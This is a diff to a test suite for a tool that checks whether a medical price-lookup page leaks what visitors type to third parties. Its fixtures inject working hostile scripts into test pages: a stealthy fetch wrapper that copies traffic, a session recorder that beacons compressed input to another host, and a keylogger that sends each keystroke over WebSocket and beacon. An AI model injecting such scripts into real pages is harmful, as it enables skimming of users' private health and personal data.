@@ -42,8 +42,10 @@ interface Page {
 const embedAlone = '<script src="/embed.js" defer></script>';
 
 let endpoint = '';
-/** Somebody else's server. */
+/** Somebody else's servers. */
 let tracker = '';
+let recorder = '';
+let keylogger = '';
 let clinic = '';
 const pages = new Map<string, Page>();
 
@@ -79,10 +81,14 @@ before(async () => {
   ({
     endpoint: { url: endpoint },
   } = await startSandboxAndEndpoint('*', built));
-  tracker = await startSite((request, response) => {
-    request.resume();
-    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}');
-  });
+  [tracker, recorder, keylogger] = (await Promise.all(
+    [1, 2, 3].map(() =>
+      startSite((request, response) => {
+        request.resume();
+        response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}');
+      }),
+    ),
+  )) as [string, string, string];
   clinic = await startSite((request, response) => {
     const { url = '/' } = request;
     const page = pages.get(url);
@@ -144,11 +150,20 @@ describe('witness', { concurrency: 4 }, () => {
     assert.deepEqual([status, err], [2, `drug-price-lookup: page ${clinic}/missing answers 404\n`]);
   });
 
-  test('a clean page: only the endpoint got it, and the receipt says so', async () => {
+  test('a page whose rrweb and PostHog obey the marks: only the endpoint got it, and the receipt says so', async () => {
     const file = join(folder, 'clean.html');
     writeFileSync(file, 'an older receipt');
     const browser = await unsandboxedBrowser();
-    const { status, out, err } = await witness('clean', {}, '--browser', browser, '--out', file, '--force');
+    const head = `<script src="/posthog-recorder.js" defer></script><script type="module">
+      import { record } from '/rrweb.js';
+      import posthog from '/posthog.js';
+      globalThis.recorded = [];
+      record({ emit: (event) => recorded.push(event), maskAllInputs: false });
+      posthog.init('phc_test', { api_host: location.origin + '/posthog', autocapture: true,
+        opt_out_useragent_filter: true, session_recording: { maskAllInputs: false } });
+    </script>`;
+    const options = ['--browser', browser, '--out', file, '--force'];
+    const { status, out, err } = await witness('clean', { head }, ...options);
     assert.equal(err, '');
     assert.equal(status, 0, out);
     assert.match(out, /^A real lookup follows.*six calls/);
@@ -156,6 +171,9 @@ describe('witness', { concurrency: 4 }, () => {
     assert.match(out, /^ok {3}endpoint \S+: it got the medicine, the place and coupon codes, in \d+ calls$/m);
     assert.match(out, /^ok {3}typing: what was typed stayed on the page until Enter\.$/m);
     assert.match(out, /^ok {3}lookup: only the endpoint got it/m);
+    // the page, its five scripts, and what PostHog sends of the rest of it
+    const [, requests] = new RegExp(`${new URL(clinic).host} \\((\\d+)\\)`).exec(out) ?? [];
+    assert.ok(Number(requests) > 7, out);
     const receipt = JSON.parse(readFileSync(join(folder, 'clean.json'), 'utf8')) as Record<string, unknown>;
     assert.deepEqual(receipt.findings, []);
     assert.deepEqual(
@@ -179,51 +197,7 @@ describe('witness', { concurrency: 4 }, () => {
     assert.deepEqual([status, others], [1, []], out);
   });
 
-  test('an owner who has the service asked for names knows what is sent', async () => {
-    const { status, out } = await witness('asks', { body: lookup('suggestions="service"') });
-    assert.match(
-      out,
-      /^warn typing: the endpoint was asked for names .+ before Enter, as suggestions="service"/m,
-    );
-    assert.deepEqual([status, failed(out)], [0, []], out);
-  });
-
-  test('rrweb and PostHog, which obey the marks, hear nothing', async () => {
-    const head = `<script src="/posthog-recorder.js" defer></script><script type="module">
-      import { record } from '/rrweb.js';
-      import posthog from '/posthog.js';
-      globalThis.recorded = [];
-      record({ emit: (event) => recorded.push(event), maskAllInputs: false });
-      posthog.init('phc_test', { api_host: location.origin + '/posthog', autocapture: true,
-        opt_out_useragent_filter: true, session_recording: { maskAllInputs: false } });
-    </script>`;
-    const { status, out } = await witness('recorders', { head });
-    assert.deepEqual(failed(out), []);
-    assert.equal(status, 0);
-    // the page, its four scripts, and what PostHog sends of the rest of it
-    const [, requests] = new RegExp(`${new URL(clinic).host} \\((\\d+)\\)`).exec(out) ?? [];
-    assert.ok(Number(requests) > 6, out);
-  });
-
-  test('a recorder that obeys no mark is heard through its compression', async () => {
-    const head = `<script type="module">
-      import { record } from '/rrweb.js';
-      const events = [];
-      record({ emit: (event) => events.push(event), maskAllInputs: false, blockClass: 'none' });
-      addEventListener('pagehide', async () => {
-        const stream = new Blob([JSON.stringify(events)]).stream().pipeThrough(new CompressionStream('gzip'));
-        navigator.sendBeacon('${tracker}/replay', await new Response(stream).blob());
-      });
-    </script>`;
-    const { status, out } = await witness('replay', { head });
-    assert.equal(status, 1, out);
-    assert.match(
-      out,
-      /^fail \S+: it has the medicine, the place, prices and coupon codes by POST \S+\/replay/m,
-    );
-  });
-
-  test('a fetch that copies to another host, a console and a data layer', async () => {
+  test('a replaced fetch, a recorder that obeys no mark and a keylogger, each heard by whom it tells', async () => {
     const file = join(folder, 'copied.html');
     const head = `<script>
       const real = fetch;
@@ -245,10 +219,26 @@ describe('witness', { concurrency: 4 }, () => {
       };
       window.fetch = copying.fetch;
       Function.prototype.toString = copying.toString;
+    </script><script type="module">
+      import { record } from '/rrweb.js';
+      const events = [];
+      record({ emit: (event) => events.push(event), maskAllInputs: false, blockClass: 'none' });
+      addEventListener('pagehide', async () => {
+        const stream = new Blob([JSON.stringify(events)]).stream().pipeThrough(new CompressionStream('gzip'));
+        navigator.sendBeacon('${recorder}/replay', await new Response(stream).blob());
+      });
+    </script><script>
+      let typed = '';
+      const socket = new WebSocket('${keylogger.replace('http', 'ws')}/keys');
+      document.addEventListener('keydown', ({ key }) => {
+        typed += key;
+        localStorage.typed = btoa(typed);
+        navigator.sendBeacon('${keylogger}/key?k=' + encodeURIComponent(key));
+      }, true);
     </script>`;
     const { status, out } = await witness(
       'copied',
-      { head },
+      { head, body: lookup('suggestions="service"') },
       '--drug',
       'metformin',
       '--location',
@@ -267,29 +257,25 @@ describe('witness', { concurrency: 4 }, () => {
     );
     assert.match(out, /^fail this page: it has .*the medicine.* in window\.dataLayer/m);
     assert.match(out, /^fail this page: it has .*coupon codes in the console/m);
-    const receipt = readFileSync(file, 'utf8');
-    assert.ok(receipt.includes(host));
-    assert.match(receipt, /metformin, 60614|60614, metformin/);
-  });
-
-  test('a keylogger that sends each letter, or keeps them where scripts of the page reach them', async () => {
-    const head = `<script>
-      let typed = '';
-      const socket = new WebSocket('${tracker.replace('http', 'ws')}/keys');
-      document.addEventListener('keydown', ({ key }) => {
-        typed += key;
-        localStorage.typed = btoa(typed);
-        navigator.sendBeacon('${tracker}/key?k=' + encodeURIComponent(key));
-      }, true);
-    </script>`;
-    const { status, out } = await witness('keys', { head });
-    assert.equal(status, 1, out);
+    assert.match(
+      out,
+      /^fail \S+: it has the medicine, the place, prices and coupon codes by POST \S+\/replay/m,
+      'through its compression',
+    );
     assert.match(
       out,
       /^fail \S+: it has the medicine and the place in pieces, such as letter by letter.*: it hears the keys\. Add the attribute sealed too\.$/m,
     );
     assert.match(out, /^fail this page: it has the medicine and the place in window\.typed/m);
     assert.match(out, /^fail this page: it has the medicine and the place in localStorage typed/m);
+    assert.match(
+      out,
+      /^warn typing: the endpoint was asked for names .+ before Enter, as suggestions="service"/m,
+      'the owner has the service asked',
+    );
+    const receipt = readFileSync(file, 'utf8');
+    assert.ok(receipt.includes(host));
+    assert.match(receipt, /metformin, 60614|60614, metformin/);
   });
 
   test('the endpoint that served the script is the one that may have it, also from closed shadow roots', async () => {
